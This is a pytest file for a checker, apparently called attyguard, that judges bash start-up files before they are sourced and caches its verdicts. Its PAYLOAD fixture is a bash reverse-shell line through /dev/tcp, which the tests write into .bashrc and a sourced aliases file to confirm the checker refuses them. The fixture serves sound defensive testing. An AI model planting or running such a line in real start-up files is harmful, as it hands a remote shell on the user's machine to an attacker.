"""rcjudge: the verdict on start-up files, and the cache that keeps unchanged ones cheap."""

from __future__ import annotations

from pathlib import Path

from attyguard.rcjudge import RcJudge, rc_files

PAYLOAD = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"


def _judge(home: Path, files: list[str]) -> RcJudge:
    return RcJudge(files, home=str(home), cache_path=str(home / "state" / "rc-judged"))


def test_rc_files_follow_bash(tmp_path: Path) -> None:
    (tmp_path / ".bashrc").write_text("")
    (tmp_path / ".profile").write_text("")
    home = str(tmp_path)
    assert rc_files(login=False, norc=False, noprofile=False, home=home) == [f"{home}/.bashrc"]
    assert rc_files(login=False, norc=True, noprofile=False, home=home) == []
    login = rc_files(login=True, norc=False, noprofile=False, home=home)
    assert login[-1] == f"{home}/.profile"
    (tmp_path / ".bash_profile").write_text("")
    assert rc_files(login=True, norc=False, noprofile=False, home=home)[-1].endswith(
        ".bash_profile")
    assert rc_files(login=True, norc=False, noprofile=True, home=home) == []


def test_refused_file_names_its_line_and_the_hint(tmp_path: Path) -> None:
    rc = tmp_path / ".bashrc"
    rc.write_text("alias ll='ls -l'\n" + PAYLOAD)
    judge = _judge(tmp_path, [str(rc)])
    try:
        ((kind, path, message),) = judge.judge()
    finally:
        judge.close()
    assert (kind, path) == ("no", str(rc))
    assert message.startswith(f"attyguard: {rc}:2: ")
    assert f"attyguard trust add --file {rc}" in message and "\n" not in message


def test_allowed_file_is_remembered_until_it_or_what_it_sources_changes(tmp_path: Path) -> None:
    aliases = tmp_path / ".bash_aliases"
    aliases.write_text("alias la='ls -A'\n")
    rc = tmp_path / ".bashrc"
    rc.write_text("HISTCONTROL=ignoreboth\n. ~/.bash_aliases\n")
    first = _judge(tmp_path, [str(rc)])
    try:
        ((kind, _path, copy),) = first.judge()
        assert kind == "ok"
        # The copy reads the judged copy of the nested file, not the file again.
        assert str(aliases) not in Path(copy).read_text()
    finally:
        first.close()
    assert not Path(copy).exists()  # (removed at close)
    again = _judge(tmp_path, [str(rc)])
    try:
        remembered = again.remembered()
        assert remembered is not None and remembered[0][0] == "ok"
        assert Path(remembered[0][2]).read_bytes() == rc.read_bytes()
    finally:
        again.close()
    aliases.write_text(PAYLOAD)
    changed = _judge(tmp_path, [str(rc)])
    try:
        assert changed.remembered() is None
        assert changed.judge()[0][0] == "no"
    finally:
        changed.close()


def test_judging_off_sources_as_is(tmp_path: Path) -> None:
    rc = tmp_path / ".bashrc"
    rc.write_text(PAYLOAD)
    judge = RcJudge([str(rc)], enabled=False, home=str(tmp_path))
    assert judge.judge() == [("as-is", str(rc), "")]
